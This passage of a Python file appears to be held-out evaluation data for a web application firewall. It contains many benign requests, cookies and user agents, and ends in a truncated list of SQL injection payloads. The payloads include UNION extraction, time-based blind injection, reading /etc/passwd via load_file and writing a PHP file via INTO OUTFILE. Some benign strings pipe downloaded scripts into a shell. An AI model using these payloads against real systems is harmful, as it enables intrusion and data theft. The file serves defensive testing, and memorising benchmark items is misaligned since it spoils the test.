        HELDOUT5_BENIGN_QUERIES,
        HELDOUT5_BENIGN_PATHS,
        HELDOUT5_BENIGN_JSON,
        HELDOUT5_BENIGN_COOKIES,
        HELDOUT5_BENIGN_REFERERS,
        HELDOUT5_BENIGN_UAS,
    )
    return out + _requests("held-out-5", HELDOUT5_BENIGN_REQUESTS)


# -- held out, sixth set: written on 2026-11-27 BEFORE the fifth detection round ----------------
# Written from public attack-pattern knowledge and from what real sites receive (developer
# forums, documentation sites, shop search, CMS admin panels, GraphQL, webhooks, OAuth, analytics
# beacons, text in many languages), without running the rules on it; committed before any rule
# change. `benchmarks/waf_eval.py` totals it only when asked (`--heldout6`), at the end of a round.

HELDOUT6_BENIGN_TEXT: tuple[str, ...] = (
    # developer forums: code and commands quoted in questions
    "How do I escape a single quote in a PostgreSQL string? 'it''s' works but looks odd",
    "Docker: COPY . /app then RUN npm ci && npm run build fails with EACCES",
    "git rebase -i HEAD~3 then squash; how do I undo it if I messed up?",
    "nginx: location ~ \\.php$ { fastcgi_pass 127.0.0.1:9000; } returns 404",
    "Kotlin: val x = list.filter { it > 2 }.map { it * 2 }",
    'Go: if err != nil { return fmt.Errorf("open %s: %w", path, err) }',
    "Rust borrow checker: cannot borrow `*self` as mutable more than once at a time",
    "TypeScript: type Partial<T> = { [P in keyof T]?: T[P] }",
    "regex for emails: ^[\\w.+-]+@[\\w-]+\\.[\\w.]+$ fails on subdomains",
    'Excel formula =IF(A2>100,"high","low") returns #VALUE!',
    "SELECT * FROM users WHERE email = $1 -- using node-postgres parameters",
    "Django: Book.objects.raw('SELECT id FROM app_book WHERE title = %s', [title])",
    "My handler runs on render: <button onClick={handle()}> instead of {handle}",
    "document.querySelector('#menu').classList.toggle('open') does nothing",
    '<img src="logo.png" alt="Logo" width="120"> looks blurry on retina screens',
    "Jinja: {% for item in items %}{{ item.name }}{% endfor %} prints nothing",
    'Bash: for f in *.jpg; do convert "$f" "${f%.jpg}.png"; done',
    "PowerShell: Get-ChildItem -Recurse | Where-Object { $_.Length -gt 1MB }",
    "tail -f /var/log/nginx/error.log shows upstream timed out (110: Connection timed out)",
    "systemctl restart php8.2-fpm && journalctl -u php8.2-fpm -n 50",
    "kubectl exec -it pod/web-0 -- /bin/sh gives 'executable file not found'",
    "how to read /etc/hosts from a Docker container on a Mac",
    "C: char *p = malloc(sizeof(char) * (n + 1)); if (!p) return -1;",
    "Java: Runtime.getRuntime().availableProcessors() returns 1 in a container",
    "PHP 8: str_contains($haystack, 'needle') vs strpos() !== false",
    'Vue: v-on:click="count++" vs @click="increment", which is better?',
    "CSS: .card:hover > .title { color: #333; } is not applying",
    "YAML anchors: does <<: *defaults merge nested keys?",
    "Is it safe to keep a JWT in localStorage or should I use an HttpOnly cookie?",
    "the ../ in my import path breaks after moving the file into src/lib",
    "What's the difference between == and === in JavaScript?",
    "wget -qO- https://get.example.sh | bash, is that a bad idea?",
    "SQL Server: SELECT TOP 10 * FROM Orders ORDER BY OrderDate DESC",
    "union of two sets in Python: a | b or a.union(b)?",
    "Laravel: DB::select('select * from users where active = ?', [1]) returns empty",
    "React: dangerouslySetInnerHTML={{ __html: marked(text) }} is that safe?",
    # documentation site searches
    "Array.prototype.map()",
    "os.path.join vs pathlib",
    "SELECT ... FOR UPDATE SKIP LOCKED",
    '<meta charset="utf-8">',
    "Content-Security-Policy script-src 'self' 'nonce-abc'",
    "exec() family of functions",
    "window.location.href vs window.location.replace",
    "is eval in JavaScript evil?",
    "std::vector<int>::iterator",
    "@media (max-width: 600px) { ... }",
    "setTimeout(fn, 0) explained",
    "chmod 755 vs 644",
    # shop search
    "men's running shoes size 10 1/2",
    '"noise cancelling" headphones -wired',
    "iphone 15 case & screen protector",
    "50% off sale <$20",
    "USB-C to HDMI 4K@60Hz adapter",
    "Levi's 501 W32/L34",
    "sofa 3-seater (grey) + footstool",
    'drill bits 1/4" hex shank',
    "AT&T prepaid SIM",
    "o'neill wetsuit 4/3mm",
    "R&B vinyl records 1990's",
    "coffee grinder; burr; manual",
    # text in many languages
    "Где купить зимние шины 205/55 R16?",
    "日本語のレビュー：とても良い！配送も早かったです。",
    "商品がまだ届いていません。注文番号は#12345です",
    "مرحبا، هل يتوفر هذا المنتج باللون الأزرق؟",
    "Ürün açıklaması: %100 pamuk, makinede yıkanabilir",
    "„Gute Qualität“, sagte sie – aber die Lieferung dauerte 3 Wochen",
    "« Très bon produit », livraison rapide ; je recommande !",
    "¿Cuál es el horario de atención? ¡Gracias!",
    "한국으로 배송 가능한가요? 관세는 어떻게 되나요?",
    "Tôi muốn đổi size áo từ M sang L",
    "שלום, האם יש משלוח חינם לישראל?",
    "😀👍 love it!!! 10/10 would buy again <3",
    "ελληνικά: Πολύ καλό προϊόν",
    "हिंदी में समीक्षा: बहुत अच्छा उत्पाद",
)

HELDOUT6_BENIGN_QUERIES: tuple[str, ...] = (
    "utm_source=newsletter&utm_medium=email&utm_campaign=black_friday_2026"
    "&utm_content=hero%20banner",
    "v=2&tid=G-ABC123&gtm=45je4&_p=123456789&cid=1234567890.1700000000&ul=en-gb&sr=1920x1080"
    "&_s=1&sid=1700000000&sct=3&seg=1&dl=https%3A%2F%2Fshop.example.com%2Fproducts%3Fcat%3Dshoes"
    "&dt=Shoes%20%7C%20Shop&en=page_view",
    "response_type=code&client_id=abc123&redirect_uri=https%3A%2F%2Fshop.example.com%2Foauth"
    "%2Fcallback&scope=openid%20email%20profile&state=xyz789&nonce=n-0S6_WzA2Mj"
    "&code_challenge=E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM&code_challenge_method=S256",
    "code=4%2F0AX4XfWj&state=xyz789&scope=email%20openid&authuser=0&prompt=consent",
    "filter[category]=shoes&filter[price][gte]=20&filter[price][lte]=100&sort=-created_at"
    "&page[number]=2&page[size]=24",
    "fields=id,name,price&include=variants.images&locale=de-DE",
    "q=%22red+dress%22+size%3A12+-maxi&facets=brand%3AZara%7Cbrand%3AH%26M",
    "post=1234&action=edit&classic-editor",
    "page=wc-orders&action=edit&id=5678&_wpnonce=a1b2c3d4e5",
    "option=com_content&view=article&id=42&Itemid=101",
    "route=product/search&search=lamp&category_id=0&sub_category=true&description=true",
    "id=1%2C2%2C3&expand=true",
    "callback=jQuery3600123456789_1700000000000&_=1700000000001",
    "query=%7B%20viewer%20%7B%20login%20%7D%20%7D",
    "query=query%20GetProduct(%24id%3A%20ID!)%20%7B%20product(id%3A%20%24id)%20%7B%20title%20"
    "%7D%20%7D&variables=%7B%22id%22%3A%22gid%3A%2F%2Fshopify%2FProduct%2F123%22%7D"
    "&operationName=GetProduct",
    "returnTo=%2Faccount%2Forders%3Ftab%3Dopen",
    "next=/checkout/shipping&lang=fr",
    "sort=price:asc&price=10..50&color=navy|black",
    "search=O%27Reilly&type=publisher",
    "tz=Europe%2FLondon&date=2026-11-27T21%3A00%3A00%2B00%3A00",
    "hl=zh-CN&q=%E6%89%8B%E6%9C%BA%E5%A3%B3",
    "ids[]=12&ids[]=13&ids[]=14",
    "mode=list&cols=title;author;date",
    "ref=producthunt&via=twitter&fbclid=IwAR2xYz_abc-DEF",
    "gclid=Cj0KCQiA&gad_source=1",
    "redirect_uri=http%3A%2F%2Flocalhost%3A3000%2Fcallback&client_id=dev",
    "s=%22select%22+query&post_status=all&post_type=post",
    "q=union+select&section=sql-reference",
    "post_logout_redirect_uri=https%3A%2F%2Fshop.example.com%2F&id_token_hint=eyJhbGciOiJSUzI1"
    "NiJ9.eyJzdWIiOiIxMjMifQ.c2ln",
    "extensions=%7B%22persistedQuery%22%3A%7B%22version%22%3A1%2C%22sha256Hash%22%3A%22ab12%22"
    "%7D%7D&variables=%7B%7D",
)

HELDOUT6_BENIGN_PATHS: tuple[str, ...] = (
    "/wp-admin/edit.php",
    "/wp-json/wp/v2/posts/1234",
    "/administrator/index.php",
    "/admin/catalog/product/edit/id/42/",
    "/user/login",
    "/node/12/edit",
    "/docs/en/latest/howto/select-for-update.html",
    "/ghost/api/admin/posts/",
    "/static/js/main.8f3a2c1b.chunk.js",
    "/fonts/Inter-roman.var.woff2",
    "/.well-known/openid-configuration",
    "/.well-known/apple-app-site-association",
    "/oauth/callback",
    "/api/graphql",
    "/products/women/dresses/red-wrap-dress-%E2%80%93-size-12",
    "/zh-cn/%E4%BA%A7%E5%93%81/%E6%89%8B%E6%9C%BA",
    "/de/kategorie/ger%C3%A4te-%26-werkzeug",
    "/blog/2026/11/why-we-moved-from-select-star-to-explicit-columns",
    "/authors/o%27reilly",
    "/download/report-2026-Q3.pdf",
    "/docs/cmd/exec.html",
    "/manual/en/function.shell-exec.php",
    "/man/5/passwd",
    "/sitemap_index.xml",
)

HELDOUT6_BENIGN_JSON: tuple[object, ...] = (
    {
        "id": "evt_1OqX",
        "object": "event",
        "type": "payment_intent.succeeded",
        "data": {
            "object": {
                "id": "pi_3OqX",
                "amount": 2000,
                "currency": "gbp",
                "description": "Order #1234 – O'Brien",
                "metadata": {"order_id": "1234"},
            }
        },
    },
    {
        "ref": "refs/heads/main",
        "commits": [
            {
                "message": "Fix SQL: use WHERE id = ? instead of string concat",
                "author": {"name": "Dana"},
            }
        ],
        "repository": {"full_name": "acme/shop"},
    },
    {
        "type": "track",
        "event": "Order Completed",
        "properties": {"revenue": 42.5, "products": [{"sku": "A-1", "name": 'Mug "Classic"'}]},
        "context": {
            "userAgent": CHROME,
            "page": {
                "url": "https://shop.example.com/checkout?step=3",
                "referrer": "https://www.google.com/",
            },
        },
    },
    {
        "operationName": "AddToCart",
        "query": "mutation AddToCart($id: ID!, $qty: Int!) { cartLinesAdd(lines: [{merchandiseId:"
        " $id, quantity: $qty}]) { cart { id } } }",
        "variables": {"id": "gid://shopify/ProductVariant/1", "qty": 1},
    },
    {"query": "query { __typename }"},
    {
        "text": "Deploy *finished* for `shop` <https://ci.example.com/build/42|#42>",
        "channel": "#deploys",
    },
    {
        "title": "Summer sale",
        "content": "<!-- wp:paragraph --><p>Up to <strong>50%</strong> off &amp; free delivery"
        "</p><!-- /wp:paragraph -->",
        "status": "draft",
    },
    {"locale": "ar", "messages": {"checkout.title": "الدفع", "cart.empty": "سلة التسوق فارغة"}},
    {
        "translations": {
            "fr": "Ajouter au panier",
            "de": "In den Warenkorb",
            "ja": "カートに入れる",
            "ru": "Добавить в корзину",
        }
    },
    {
        "csp-report": {
            "document-uri": "https://shop.example.com/",
            "violated-directive": "script-src-elem",
            "blocked-uri": "inline",
            "line-number": 12,
            "script-sample": "window.dataLayer = window.dataLayer || [];",
        }
    },
    {
        "exception": {
            "values": [
                {
                    "type": "TypeError",
                    "value": "Cannot read properties of undefined (reading 'map')",
                    "stacktrace": {
                        "frames": [
                            {"filename": "/static/js/main.js", "function": "render", "lineno": 120}
                        ]
                    },
                }
            ]
        },
        "request": {"url": "https://shop.example.com/cart"},
    },
    {
        "robots_txt": "User-agent: *\nDisallow: /admin/\nDisallow: /cart\n"
        "Sitemap: https://shop.example.com/sitemap.xml"
    },
    {
        "subject": "Your order {{ order.number }} has shipped",
        "body_html": '<p>Hi {{ customer.first_name }},</p><p>Track it <a href="{{ tracking_url'
        ' }}">here</a>.</p>',
    },
    {
        "query": {
            "bool": {
                "must": [{"match": {"title": "red shoes"}}],
                "filter": [{"range": {"price": {"gte": 10, "lte": 50}}}],
            }
        },
        "size": 24,
    },
    {
        "sku": "CBL-USB-C",
        "title": "USB-C cable 2m (100W) – braided",
        "description": "Works with MacBook/iPad; not for Thunderbolt 3 daisy chains.",
        "tags": ["cable", "usb-c"],
    },
    {
        "name": "José Müller-O'Neil",
        "line1": "12 Rue de l'Église",
        "city": "Saint-Étienne",
        "postcode": "42000",
        "country": "FR",
        "phone": "+33 4 77 00 00 00",
    },
    {
        "flag": "new-checkout",
        "rules": [
            {"attribute": "country", "op": "in", "values": ["GB", "IE"]},
            {"attribute": "email", "op": "endsWith", "values": ["@example.com"]},
        ],
    },
    {
        "name": "nightly export",
        "schedule": "0 2 * * *",
        "command": "export_orders --since yesterday --format csv",
    },
    {
        "title": "Why is my query slow?",
        "body": "```sql\nSELECT o.id, c.name FROM orders o JOIN customers c ON c.id = "
        "o.customer_id WHERE o.created_at > now() - interval '7 days';\n```",
        "tags": ["postgresql"],
    },
    {
        "path": "docs/install.md",
        "content": "## Install\n\n```bash\ncurl -fsSL https://example.com/install.sh | sh\n```\n",
    },
    {"name": "LCP", "value": 2400.5, "rating": "needs-improvement", "navigationType": "navigate"},
)

HELDOUT6_BENIGN_COOKIES: tuple[str, ...] = (
    "_ga=GA1.1.1234567890.1700000000; _ga_ABC123=GS1.1.1700000000.3.1.1700000100.0.0.0; "
    "_fbp=fb.1.1700000000000.123456789",
    "wordpress_logged_in_abc123=admin%7C1700086400%7CxYz%7Cdeadbeef; "
    "wp-settings-1=libraryContent%3Dbrowse%26editor%3Dhtml; wp-settings-time-1=1700000000",
    "cart=%7B%22items%22%3A%5B%7B%22sku%22%3A%22A-1%22%2C%22qty%22%3A2%7D%5D%7D; currency=EUR",
    "OptanonConsent=isGPCEnabled=0&datestamp=Fri+Nov+27+2026+21%3A00%3A00+GMT%2B0000"
    "&version=202310.1.0&groups=C0001%3A1%2CC0002%3A0; "
    "OptanonAlertBoxClosed=2026-11-27T21:00:00.000Z",
    "lang=zh-Hans; region=CN; last_search=%E6%89%8B%E6%9C%BA",
    "SSESS1a2b3c=Zx9yW8vU7tS6rQ5pO4nM3lK2jI1hG0fE; has_js=1",
    "PHPSESSID=3f9a7c2b1d8e4f6a; mage-cache-storage=%7B%7D; form_key=AbCdEf123456",
    "ajs_anonymous_id=%2200000000-1111-2222-3333-444444444444%22; ajs_user_id=null",
)

HELDOUT6_BENIGN_REFERERS: tuple[str, ...] = (
    "https://www.google.com/search?q=%22red+wrap+dress%22+size+12&oq=red+wrap&sourceid=chrome"
    "&ie=UTF-8",
    "https://shop.example.com/wp-admin/post.php?post=1234&action=edit",
    "https://accounts.google.com/o/oauth2/v2/auth?client_id=abc&redirect_uri=https%3A%2F%2F"
    "shop.example.com%2Foauth%2Fcallback&response_type=code&scope=openid",
    "https://stackoverflow.com/questions/123/how-to-select-for-update-skip-locked-in-postgres",
    "https://www.bing.com/search?q=o%27reilly+books+%26+more",
    "https://t.co/AbC123",
    "https://yandex.ru/search/?text=%D0%B7%D0%B8%D0%BC%D0%BD%D0%B8%D0%B5+%D1%88%D0%B8%D0%BD%D1%8B",
    "android-app://com.google.android.gm/",
)

HELDOUT6_BENIGN_UAS: tuple[str, ...] = (
    "Stripe/1.0 (+https://stripe.com/docs/webhooks)",
    "GitHub-Hookshot/8f3a2c1",
    "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
    "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/124.0.0.0 Safari/537.36 OPR/110.0.0.0",
    "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/124.0.0.0 Mobile Safari/537.36 [FB_IAB/FB4A;FBAV/460.0.0.0;]",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
    "Gecko) Mobile/15E148 Instagram 330.0.0.0",
    "okhttp/4.12.0",
    "Dart/3.3 (dart:io)",
    "WordPress/6.4.2; https://shop.example.com",
    "PostmanRuntime/7.36.0",
    "curl/8.5.0",
)

_H6_BOUNDARY = "----WebKitFormBoundary6kP3mN8qRt"
_H6_MULTIPART = {"Content-Type": f"multipart/form-data; boundary={_H6_BOUNDARY}"}


def _h6_multipart(*parts: tuple[str, str | None, str | None, bytes]) -> bytes:
    """A multipart body of (name, filename, content type, content) parts, held-out 6's boundary."""
    return _multipart(_H6_BOUNDARY, *parts)


_FORM = {"Content-Type": "application/x-www-form-urlencoded"}
_JSONCT = {"Content-Type": "application/json"}

HELDOUT6_BENIGN_REQUESTS: tuple[tuple[str, str, str, dict[str, str], bytes | None], ...] = (
    # (method, path, query, extra headers, body): GraphQL, webhooks, OAuth, beacons, CMS admin
    (
        "POST",
        "/graphql",
        "",
        _JSONCT,
        b'{"operationName":"Search","query":"query Search($q: String!, $first: Int = 24) '
        b'{ search(query: $q, first: $first) { edges { node { id title } } } }",'
        b'"variables":{"q":"men\'s shoes \\"wide fit\\"","first":24}}',
    ),
    (
        "POST",
        "/graphql",
        "",
        _JSONCT,
        b'{"query":"mutation { updateProfile(input: {bio: \\"I like <b>bold</b> & SQL\\"}) '
        b'{ user { id } } }"}',
    ),
    (
        "POST",
        "/graphql",
        "",
        _JSONCT,
        b'[{"query":"{ me { id } }"},{"query":"{ cart { lines { quantity } } }"}]',
    ),
    (
        "POST",
        "/hooks/github",
        "",
        {
            **_JSONCT,
            "User-Agent": "GitHub-Hookshot/8f3a2c1",
            "X-GitHub-Event": "pull_request",
            "X-GitHub-Delivery": "72d3162e-cc78-11e3-81ab-4c9367dc0958",
            "X-Hub-Signature-256": "sha256=757107ea0eb2509fc211221cce984b8a37570b6d7586c22c46f4"
            "379c8b043e17",
        },
        json.dumps(
            {
                "action": "opened",
                "pull_request": {
                    "title": "Escape user input in search (fixes <script> injection)",
                    "body": "Replaces `innerHTML = q` with `textContent = q`.\n\n"
                    "Before: `/search?q=<img src=x>` rendered an image.",
                },
            }
        ).encode(),
    ),
    (
        "POST",
        "/hooks/stripe",
        "",
        {
            **_JSONCT,
            "User-Agent": "Stripe/1.0 (+https://stripe.com/docs/webhooks)",
            "Stripe-Signature": "t=1700000000,v1=5257a869e7ecebeda32affa62cdca3fa51cad7e77a0e56ff5"
            "36d0ce8e108d8bd",
        },
        b'{"id":"evt_1","type":"customer.updated","data":{"object":{"id":"cus_1",'
        b'"name":"Anne-Marie D\'Arcy","address":{"line1":"1 Main St; Apt 2"}}}}',
    ),
    (
        "POST",
        "/oauth/token",
        "",
        _FORM,
        b"grant_type=authorization_code&code=SplxlOBeZQQYbYS6WxSbIA&redirect_uri=https%3A%2F%2F"
        b"shop.example.com%2Foauth%2Fcallback&code_verifier=dBjftJeZ4CVP-mB92K27uhbUJU1p1r_wW1gF"
        b"WFOEjXk&client_id=abc123",
    ),
    (
        "POST",
        "/oauth/callback",
        "",
        _FORM,
        b"code=4%2F0AX4XfWj&state=eyJyZXR1cm4iOiIvYWNjb3VudCJ9&id_token=eyJhbGciOiJSUzI1NiIsInR5"
        b"cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIn0.c2lnbmF0dXJl",
    ),
    (
        "POST",
        "/saml/acs",
        "",
        _FORM,
        b"SAMLResponse=PHNhbWxwOlJlc3BvbnNlIHhtbG5zOnNhbWxwPSJ1cm46b2FzaXM6bmFtZXM6dGM6U0FNTDoy"
        b"LjA6cHJvdG9jb2wiIElEPSJfOGU4ZGM1ZjY5YTk4Y2M0YzFmZjM0MjdlNWNlMzQ2MDZmZDY3MmY5MWU2Ij4%3D"
        b"&RelayState=https%3A%2F%2Fshop.example.com%2Fadmin%2F",
    ),
    (
        "POST",
        "/g/collect",
        "v=2&tid=G-ABC123&cid=1234567890.1700000000&sid=1700000000&_p=987654321",
        {"Content-Type": "text/plain;charset=UTF-8"},
        b"en=scroll&epn.percent_scrolled=90\r\nen=user_engagement&_et=15234\r\n"
        b"en=view_item&pr1=idA-1~nmMug%20%22Classic%22~pr9.99~qt1",
    ),
    (
        "POST",
        "/rum",
        "",
        {"Content-Type": "text/plain;charset=UTF-8"},
        b'{"name":"CLS","value":0.02,"id":"v3-1700000000000-123","page":"/products?cat=shoes&'
        b'sort=price","entries":[{"sources":[{"node":"div.hero > img"}]}]}',
    ),
    (
        "POST",
        "/v1/batch",
        "",
        {**_JSONCT, "Authorization": "Basic d3JpdGVrZXk6"},
        b'{"batch":[{"type":"page","name":"Search","properties":{"search":"o\'neill & sons",'
        b'"path":"/search"}},{"type":"identify","traits":{"email":"a@b.example"}}]}',
    ),
    (
        "POST",
        "/wp-admin/admin-ajax.php",
        "",
        _FORM,
        b"data%5Bwp-refresh-post-lock%5D%5Bpost_id%5D=1234&data%5Bwp-refresh-post-lock%5D%5Block"
        b"%5D=1700000000%3A1&interval=60&_nonce=a1b2c3d4e5&action=heartbeat&screen_id=post"
        b"&has_focus=true",
    ),
    (
        "POST",
        "/wp-json/wp/v2/posts/1234",
        "_locale=user",
        {**_JSONCT, "X-WP-Nonce": "a1b2c3d4e5"},
        json.dumps(
            {
                "title": "Our new store opens",
                "content": '<!-- wp:embed {"url":"https://www.youtube.com/watch?v=dQw4w9WgXcQ",'
                '"type":"video","providerNameSlug":"youtube"} --><figure class="wp-block-embed">'
                '<div class="wp-block-embed__wrapper">https://www.youtube.com/watch?v=dQw4w9WgXcQ'
                "</div></figure><!-- /wp:embed --><!-- wp:paragraph --><p>Come and see us at "
                '<a href="https://maps.example.com/?q=12+High+St">12 High St</a>!</p>'
                "<!-- /wp:paragraph -->",
                "status": "publish",
            }
        ).encode(),
    ),
    (
        "POST",
        "/node/12/edit",
        "destination=/admin/content",
        _FORM,
        b"title%5B0%5D%5Bvalue%5D=Opening+hours&body%5B0%5D%5Bvalue%5D=%3Cp%3EMon%26ndash%3BFri+"
        b"9%3A00%26ndash%3B17%3A30%3C%2Fp%3E%3Ctable%3E%3Ctr%3E%3Ctd%3ESat%3C%2Ftd%3E%3Ctd%3E10"
        b"%3A00%3C%2Ftd%3E%3C%2Ftr%3E%3C%2Ftable%3E&body%5B0%5D%5Bformat%5D=basic_html"
        b"&form_build_id=form-Ab12Cd&form_token=Xy98Zw&form_id=node_page_edit_form&op=Save",
    ),
    (
        "POST",
        "/admin/catalog/product/save/id/42/",
        "",
        _FORM,
        b"form_key=AbCdEf123456&product%5Bname%5D=Oak+table+%2880x120%29&product%5Bdescription%5D"
        b"=%3Cp%3ESolid+oak%3B+seats+4%26ndash%3B6.%3C%2Fp%3E%3Cul%3E%3Cli%3EOiled%3C%2Fli%3E%3C"
        b"%2Ful%3E&product%5Bprice%5D=349.00&product%5Bstatus%5D=1",
    ),
    (
        "POST",
        "/admin/theme/css",
        "",
        _FORM,
        b"css=.btn%3Ahover%7Bcolor%3A%23fff%7D%0A%40media%28max-width%3A600px%29%7B.nav%7B"
        b"display%3Anone%7D%7D%0A.price%3A%3Abefore%7Bcontent%3A%22%C2%A3%22%7D",
    ),
    (
        "POST",
        "/wp-admin/options.php",
        "",
        _FORM,
        b"option_page=header_scripts&_wpnonce=a1b2c3&header_code=%3C%21--+Google+Tag+Manager+--"
        b"%3E%3Cscript%3E%28function%28w%2Cd%2Cs%2Cl%2Ci%29%7Bw%5Bl%5D%3Dw%5Bl%5D%7C%7C%5B%5D%3B"
        b"w%5Bl%5D.push%28%7B%27gtm.start%27%3Anew+Date%28%29.getTime%28%29%2Cevent%3A%27gtm.js"
        b"%27%7D%29%3B%7D%29%28window%2Cdocument%2C%27script%27%2C%27dataLayer%27%2C%27GTM-XXXX"
        b"%27%29%3B%3C%2Fscript%3E",
    ),
    (
        "POST",
        "/cart/add.js",
        "",
        _JSONCT,
        '{"items":[{"id":123,"quantity":1,"properties":{"Engraving":"To J. – love, M. <3"}}]}'.encode(),
    ),
    (
        "GET",
        "/search/suggest.json",
        "q=o%27ne&resources[type]=product&resources[limit]=4",
        {},
        None,
    ),
    (
        "POST",
        "/contact",
        "",
        _FORM,
        b"name=Sin%C3%A9ad+O%27Connor&email=s%40example.ie&message=Hi%21+Your+page+https%3A%2F%2F"
        b"shop.example.com%2Fp%3Fid%3D7%26ref%3Dfoo+says+%22in+stock%22+but+checkout+says+"
        b"%27sold+out%27.+Which+is+it%3F",
    ),
    (
        "POST",
        "/reviews",
        "",
        _FORM,
        b"rating=5&title=Great+--+seriously&text=5%2F5+stars%3B+would+buy+again.+Fits+my+"
        b"%2210%22+tablet+%26+the+charger.",
    ),
    (
        "PUT",
        "/api/v1/users/42",
        "",
        _JSONCT,
        b'{"display_name":"Zo\\u00eb \\"Zed\\" O\'Hara","timezone":"Europe/Dublin"}',
    ),
    (
        "PATCH",
        "/api/profile",
        "",
        _JSONCT,
        b'{"bio":"Full-stack dev. Rust, Go & SQL. Opinions mine; <3 open source"}',
    ),
    (
        "DELETE",
        "/api/v1/sessions/abc123",
        "",
        {"Authorization": "Bearer eyJhbGciOi.eyJzdWIi.c2ln"},
        None,
    ),
    (
        "OPTIONS",
        "/api/v1/orders",
        "",
        {
            "Origin": "https://app.example.com",
            "Access-Control-Request-Method": "PUT",
            "Access-Control-Request-Headers": "content-type,authorization",
        },
        None,
    ),
    ("HEAD", "/products/123", "", {}, None),
    (
        "POST",
        "/admin/import",
        "",
        _H6_MULTIPART,
        _h6_multipart(
            ("file", "products.csv", "text/csv", b'sku,name,price\nA-1,"Mug, large",9.99\n'),
            ("mode", None, None, b"upsert"),
        ),
    ),
    (
        "POST",
        "/api/photos",
        "",
        _H6_MULTIPART,
        _h6_multipart(
            ("photo", "IMG_2041.jpg", "image/jpeg", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00"),
            ("caption", None, None, "Sunset at Étretat – 18:42 (no filter!)".encode()),
        ),
    ),
    (
        "POST",
        "/hooks/twilio/sms",
        "",
        _FORM,
        b"From=%2B441234567890&To=%2B447000000000&Body=STOP&MessageSid=SM123abc&NumMedia=0",
    ),
    (
        "POST",
        "/hooks/mailgun/inbound",
        "",
        _FORM,
        b"sender=bob%40example.com&subject=Re%3A+Order+%231234&body-plain=Thanks%21%0A%0AOn+Tue"
        b"%2C+Nov+24%2C+2026+at+10%3A00+Shop+%3Cno-reply%40shop.example.com%3E+wrote%3A%0A%3E+Yo"
        b"ur+order+has+shipped.%0A%3E+Track+it+here%3A+https%3A%2F%2Fshop.example.com%2Ft%3Fid"
        b"%3D1",
    ),
    (
        "POST",
        "/support/ticket",
        "",
        _FORM,
        "subject=退货申请&message=您好，我想退货。订单号：#20261127-001，原因：尺码不合适。".encode(),
    ),
    (
        "GET",
        "/api/translate",
        "text=Add+to+cart&from=en&to=ja",
        {"Accept": "application/json"},
        None,
    ),
    (
        "GET",
        "/oauth/authorize",
        "client_id=app&response_type=token&redirect_uri=https%3A%2F%2Fapp.example.com%2F%23%2F"
        "callback&state=af0ifjsldkj",
        {},
        None,
    ),
    (
        "POST",
        "/graphql",
        "",
        _JSONCT,
        b'{"query":"query Docs($slug: String!) { doc(slug: $slug) { title body } }",'
        b'"variables":{"slug":"sql/select-into-outfile"}}',
    ),
    (
        "POST",
        "/api/search",
        "",
        _JSONCT,
        b'{"q":"drop table","filters":{"category":"furniture","width_cm":{"lt":120}}}',
    ),
    (
        "POST",
        "/wp-admin/admin-ajax.php",
        "",
        _FORM,
        b"action=query-attachments&query%5Borderby%5D=date&query%5Border%5D=DESC&query"
        b"%5Bposts_per_page%5D=80&query%5Bpaged%5D=1&post_id=1234",
    ),
    (
        "GET",
        "/admin/orders",
        "status=processing&sort=created_at+desc&search=%23100",
        {"Cookie": "PHPSESSID=3f9a7c2b1d8e4f6a; admin_sidebar=collapsed"},
        None,
    ),
    (
        "POST",
        "/api/events",
        "",
        {
            **_JSONCT,
            "X-Shopify-Topic": "orders/create",
            "X-Shopify-Hmac-Sha256": "XWmrwMey6OsLMHJcDX+XaFsqc3B0eSHjJVD4QFVx3Qg=",
        },
        b'{"id":820982911946154508,"email":"jon@example.com","note":"Leave at door -- thanks!",'
        b'"line_items":[{"title":"IPod Nano - 8gb","sku":"IPOD2008PINK"}]}',
    ),
)

HELDOUT6_ATTACKS: tuple[tuple[str, str, str], ...] = (
    # (category, delivery, payload); deliveries as in `_deliver5`, plus `_deliver6`'s own.
    ("sqli", "graphql", "1' OR '1'='1' --"),
    ("sqli", "webhook", "'; DROP TABLE users; --"),
    ("sqli", "put", "admin'-- "),
    ("sqli", "bracket", "1) OR (1=1"),
    ("sqli", "query", "1 OR 1=1"),
    ("sqli", "query", "-1' UNION SELECT 1,@@version,3#"),
    ("sqli", "query", "1' ORDER BY 10-- -"),
    ("sqli", "query", "1' AND extractvalue(1,concat(0x7e,(SELECT user()),0x7e))-- -"),
    ("sqli", "query", "1' AND updatexml(1,concat(0x7e,version()),1)-- -"),
    ("sqli", "query", "1;WAITFOR DELAY '0:0:5'--"),
    ("sqli", "query", "1' AND (SELECT 1 FROM pg_sleep(5))::text='1"),
    ("sqli", "query", "' OR 'x'LIKE'x"),
    ("sqli", "plusquery", "1 UNION/*!50000SELECT*/ 1,2,3"),
    ("sqli", "query", "1'/**/UnIoN/**/SeLeCt/**/null,null--"),
    ("sqli", "raw", "1%bf%27%20OR%201%3D1--%20"),
    ("sqli", "query", "' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64--"),
    ("sqli", "query", "1' AND IF(1=1,SLEEP(4),0)-- "),
    ("sqli", "cookie", "' OR '1'='1'; --"),
    ("sqli", "header:X-Forwarded-For", "1.2.3.4' AND (SELECT 1 FROM (SELECT SLEEP(5))a)-- -"),
    ("sqli", "rawjson", '{"username": {"$gt": ""}, "password": {"$gt": ""}}'),
    ("sqli", "query", "') UNION SELECT NULL, load_file('/etc/passwd')-- -"),
    ("sqli", "query", "1' INTO OUTFILE '/var/www/html/x.php'-- -"),
    ("sqli", "query", "1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)"),
    ("sqli", "query", 'admin" OR ""="'),
    ("sqli", "double", "1 UNION SELECT column_name FROM information_schema.columns"),
    ("sqli", "query", "';SELECT CASE WHEN (1=1) THEN pg_sleep(5) ELSE pg_sleep(0) END--"),
